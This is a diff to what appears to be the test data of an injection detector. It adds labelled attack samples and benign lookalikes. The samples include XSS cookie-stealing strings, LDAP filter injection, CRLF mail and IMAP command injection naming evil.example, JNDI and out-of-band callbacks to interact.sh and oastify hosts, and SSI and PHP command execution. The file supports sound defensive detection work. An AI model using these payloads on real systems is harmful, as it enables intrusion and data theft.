@@ -56,6 +56,8 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     "inj.xss.jsfuck": ("(![]+[])[+!+[]]", "[][(![]+[])[+[]]]"),
     "inj.xss.script-call": (
         "';prompt(document.domain)//",
+        "alert?.(document?.cookie)",
+        "confirm.call(null,1)",
         "x=document.cookie;",
         "document.cookie=sid=attacker",
         "top[8680439..toString(30)](1)",
@@ -195,10 +197,16 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     ),
     "inj.ssi.ssi-directive": ('<!--#exec cmd="id"-->', '<!-- #include file="/etc/hosts" -->'),
     "inj.ssi.esi-tag": ('<esi:include src="http://203.0.113.9/x"/>', "<esi:vars>$(HTTP_COOKIE)"),
-    "inj.ldap.filter-injection": ("jdoe)(|(uid=*))", "*)(&(objectClass=user)", "x)((!(cn=a"),
+    "inj.ldap.filter-injection": (
+        "jdoe)(|(uid=*))",
+        "*)(&(objectClass=user)",
+        "x)((!(cn=a",
+        "(&(uid=admin)(!(&(1=0)(userPassword=q))))",
+    ),
     "inj.crlf.header-injection": ("en%0d%0aSet-Cookie: sid=1", "x\r\nLocation: //e.example"),
     "inj.crlf.response-splitting": ("a%0d%0aHTTP/1.1 200 OK", "b\n\n<html>"),
     "inj.crlf.encoded-break": ("x%250d%250aSet-Cookie:a",),
+    "inj.crlf.mail-command": ("x\r\nRCPT TO: <a@evil.example>", "\r\nA1 FETCH 1:* (BODY[])"),
     "inj.php.open-tag": ("<?php echo 1; ?>", "<?= $x ?>", "<?echo 1;?>", "<?xml :echo 1;"),
     "inj.php.function-call": ("shell_exec('id')", "system($_GET[c])"),
     "inj.php.include-statement": ('require_once "x.php";', "${'_GET'}", "__halt_compiler();"),
@@ -254,6 +262,13 @@ EXAMPLES: dict[str, tuple[str, ...]] = {
     "inj.scanner.scanner-agent": (
         "sqlmap/1.7.2#stable (https://sqlmap.org)",
         "Mozilla/5.0 zgrab/0.x",
+        "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 22.4.1)",
+        "Fuzz Faster U Fool v2.0.0",
+    ),
+    "inj.scanner.oast-domain": (
+        "http://k3j2h4g5.oastify.com/x",
+        "${jndi:ldap://c5f2a1.interact.sh/a}",
+        "ping -c1 a1b2.burpcollaborator.net",
     ),
 }
 
@@ -372,6 +387,12 @@ BENIGN = (
     "/var/logs/app/readme.txt",
     "C:\\Windows\\Fonts\\arial.ttf",
     "Pick (one) or (both) = fine",
+    "ls 300 lexus",
+    "please confirm.call me back",
+    "Notes\nQuit\nData",
+    "first line\nA1 list of items",
+    "hooks go to https://webhook.site/abc",
+    "(&(objectClass=person)(uid=jdoe))",
 )
 
 
